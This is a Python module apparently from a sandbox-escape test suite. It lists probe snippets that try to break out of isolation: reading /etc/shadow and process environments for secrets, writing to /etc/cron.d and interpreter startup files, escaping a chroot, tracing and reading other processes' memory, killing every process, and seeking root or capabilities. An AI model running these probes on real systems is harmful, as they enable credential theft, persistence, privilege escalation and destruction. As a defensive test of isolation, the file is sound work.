"""Reaching what lies outside: files and processes (`kernel.py` has the network and the kernel)."""

from __future__ import annotations

from attacks.kernel import KERNEL, NETWORK
from attacks.kit import Attack

_LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def _open(name: str, *paths: str) -> Attack:
    """Read files that exist on the host; what the host keeps there is in @…@ or contains what is looked for."""
    return Attack(name, f"""
def act():
    for path in {paths!r}:
        try:
            if open(path, 'rb').read(100000):
                return path
        except OSError:
            pass
""")


def _lists(name: str, *folders: str) -> Attack:
    return Attack(name, f"""
import os
def act():
    for folder in {folders!r}:
        try:
            if os.listdir(folder):
                return folder
        except OSError:
            pass
""")


def _writes(name: str, *paths: str) -> Attack:
    return Attack(name, f"""
import os
def act():
    for path in {paths!r}:
        try:
            with open(path, 'a') as file:
                file.write('@MARK@')
            return path
        except OSError:
            pass
""")


FILES = [
    Attack("reads_etc_passwd", """
def act():
    return any('root' in open(path).read() for path in ('/etc/passwd', '/usr/etc/passwd', '/proc/1/root/etc/passwd'))
"""),
    _open("reads_shadow", "/etc/shadow", "/etc/gshadow", "/etc/sudoers"),
    _open("reads_host_configuration", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/etc/fstab",
          "/etc/machine-id", "/var/lib/dpkg/status"),
    Attack("reads_a_secret_file", "def act():\n    return open('@OUTSIDE@/secret.txt').read().strip()\n", "leak"),
    Attack("reads_it_by_dot_dot", """
import os
def act():
    for depth in range(1, 12):
        path = '../' * depth + '@OUTSIDE@/secret.txt'.lstrip('/')
        if os.path.exists(path):
            return open(path).read().strip()
""", "leak"),
    _lists("lists_homes", "/root", "/home", "@HOME@"),
    _lists("lists_the_project", "@PROJECT@", "@PROJECT@/factory"),
    _lists("lists_the_temporary_files_of_the_host", "@OUTSIDE@", "/var/tmp", "/run", "/mnt", "/srv", "/opt/data"),
    Attack("imports_the_project", """
def act():
    import factory
    return bool(factory.__file__)
"""),
    Attack("imports_third_party_packages", """
import importlib
def act():
    for name in ('polars', 'pyarrow', 'numpy', 'pydantic', 'pytest', 'torch', 'yaml', 'pip'):
        try:
            return importlib.import_module(name).__file__
        except ImportError:
            pass
"""),
    _writes("writes_outside", "@OUTSIDE@/written", "/etc/cron.d/x", "@HOME@/x", "/x", "/usr/x",
            "/usr/bin/x", "/var/tmp/x", "/dev/x", "/opt/x"),
    Attack("writes_into_the_interpreter", """
import os, sys, glob, random
def act():
    folder = os.path.dirname(random.__file__)
    places = [random.__file__, os.path.join(folder, 'sitecustomize.py'), os.path.join(folder, '__pycache__', 'x.pyc'),
              sys.executable, *glob.glob(os.path.join(folder, '__pycache__', 'random*.pyc')),
              os.path.join(folder, 'site-packages', 'x.pth'), os.path.join(folder, 'dist-packages', 'x.pth')]
    for path in places:
        try:
            open(path, 'ab').close()
            return path
        except OSError:
            pass
"""),
    Attack("symlinks_to_the_outside", """
import os
def act():
    os.symlink('@OUTSIDE@', 'link')
    os.symlink('/proc/1/root@OUTSIDE@', 'link2')
    for link in ('link', 'link2'):
        try:
            open(link + '/written', 'w').write('@MARK@')
            return True
        except OSError:
            pass
"""),
    Attack("hardlinks_to_the_outside", """
import os
def act():
    for source in ('@OUTSIDE@/secret.txt', '/usr/bin/env', '/proc/self/exe', '/dev/null'):
        try:
            os.link(source, '/tmp/hard')
            return source
        except OSError:
            pass
"""),
    Attack("follows_inherited_descriptors", """
import os, stat
def act():
    found = []
    for number in range(1024):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode) or stat.S_ISSOCK(mode):
            found.append(number)
        elif stat.S_ISREG(mode):
            try:
                os.pwrite(number, b'@MARK@', 0)
                found.append(number)
            except OSError:
                pass
    return found
"""),
    Attack("makes_device_nodes", """
import os, stat
def act():
    for major, minor in ((1, 1), (1, 2), (8, 0), (253, 0), (1, 3)):
        try:
            os.mknod('/tmp/node', stat.S_IFBLK | 0o600, os.makedev(major, minor))
            return True
        except OSError:
            pass
"""),
    _open("opens_devices", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm",
          "/dev/fuse", "/dev/kmsg", "/dev/tty", "/dev/pts/0", "/dev/ptmx", "/dev/loop0"),
    _writes("writes_kernel_settings", "/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
            "/proc/self/oom_score_adj", "/sys/power/state", "/sys/fs/cgroup/cgroup.procs", "/proc/self/attr/current"),
    Attack("escapes_a_chroot", """
import os
def act():
    os.makedirs('/tmp/inner', exist_ok=True)
    try:
        os.chroot('/tmp/inner')
    except OSError:
        return None
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    return os.path.exists('/etc/passwd') or True
"""),
    Attack("raises_the_mode_of_its_files", """
import os
def act():
    open('/tmp/s', 'w').write('x')
    os.chown('/tmp/s', 0, 0)
    os.chmod('/tmp/s', 0o4777)
    return os.stat('/tmp/s').st_uid == 0
"""),
]

PROCESSES = [
    _open("reads_process_one", "/proc/1/environ", "/proc/1/cmdline", "/proc/1/maps", "/proc/1/root/etc/passwd"),
    Attack("sees_other_processes", """
import os
def act():
    own = {os.getpid(), os.getppid(), 1}
    return [name for name in os.listdir('/proc') if name.isdigit() and int(name) not in own]
"""),
    Attack("signals_everything", """
import os, signal
def act():
    hit = []
    for target in (os.getppid(), 2, 3, *range(4, 400)):
        if target not in (0, os.getpid()):
            try:
                os.kill(target, signal.SIGSTOP)
                hit.append(target)
            except OSError:
                pass
    return hit
"""),
    Attack("kills_every_process", """
import os, signal
def act():
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        return None
    return 'there was somebody to kill'
"""),
    Attack("traces_its_parent", _LIBC + """
import os
def act():
    for pid in (os.getppid(), 1, 2, 3):
        for request in (16, 0x4206):
            if pid != os.getpid() and pid > 0 and libc.ptrace(request, pid, 0, 0) == 0:
                return pid
"""),
    Attack("reads_foreign_memory", _LIBC + """
import os
def act():
    buffer = ctypes.create_string_buffer(64)
    class Vec(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
    here, there = Vec(ctypes.addressof(buffer), 64), Vec(id(buffer), 64)
    for pid in range(1, 300):
        if pid != os.getpid() and libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return pid
    for pid in range(1, 300):
        try:
            if pid != os.getpid() and open(f'/proc/{pid}/mem', 'rb'):
                return pid
        except OSError:
            pass
"""),
    Attack("renices_its_user", """
import os
def act():
    before = os.getpriority(os.PRIO_PROCESS, 0)
    os.setpriority(os.PRIO_USER, 0, 5)
    os.setpriority(os.PRIO_PROCESS, 0, before - 5)
    return True
"""),
    Attack("raises_its_limits", """
import resource
def act():
    done = []
    for name in ('NPROC', 'AS', 'FSIZE', 'NOFILE', 'CPU', 'CORE'):
        kind = getattr(resource, f'RLIMIT_{name}')
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            done.append(name)
        except (OSError, ValueError):
            pass
    return done
"""),
    Attack("becomes_root", """
import os
def act():
    for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):
        try:
            call()
            return True
        except OSError:
            pass
    return os.getuid() == 0 or os.geteuid() == 0
"""),
    Attack("runs_setuid_programs", """
import subprocess
def act():
    for line in (['/usr/bin/su', '-c', 'id'], ['/usr/bin/mount', '-t', 'tmpfs', 'none', '/tmp'],
                 ['/usr/bin/sudo', '-n', 'id'], ['/usr/bin/unshare', '-Ur', 'id'],
                 ['/usr/bin/nsenter', '-t', '1', '-m', '-p', 'id'],
                 ['/usr/bin/bwrap', '--ro-bind', '/', '/', 'true'], ['/usr/bin/newgrp', 'root']):
        try:
            if subprocess.run(line, stdin=subprocess.DEVNULL, capture_output=True, timeout=3).returncode == 0:
                return line
        except (OSError, subprocess.TimeoutExpired):
            pass
"""),
    Attack("regains_capabilities", _LIBC + """
def act():
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(*[0xffffffff] * 6)
    if libc.capset(header, data) == 0:
        return 'capset'
    if libc.prctl(47, 2, 21, 0, 0) == 0:
        return 'ambient'
    libc.capget(header, data)
    return any(data)
"""),
    Attack("drops_no_new_privileges", _LIBC + "def act():\n    return libc.prctl(38, 0, 0, 0, 0) == 0 or "
           "libc.prctl(39, 0, 0, 0, 0) != 1\n"),
    Attack("finds_a_secret_in_the_environment", """
import os, glob, ctypes
def act():
    texts = [*os.environ.values(), *(value.decode('latin1') for value in os.environb.values())]
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), 'environ')
    at = 0
    while environ and environ[at]:
        texts.append(environ[at].decode('latin1'))
        at += 1
    for path in glob.glob('/proc/*/environ'):
        try:
            texts += open(path, 'rb').read().decode('latin1').split(chr(0))
        except OSError:
            pass
    return next((text[text.index('canary-'):] for text in texts if 'canary-' in text), None)
""", "leak"),
    Attack("finds_its_own_name_outside", """
import os, socket
def act():
    return socket.gethostname() == '@HOSTNAME@' or os.uname().nodename == '@HOSTNAME@'
"""),
]

ESCAPES = [*FILES, *PROCESSES, *NETWORK, *KERNEL]
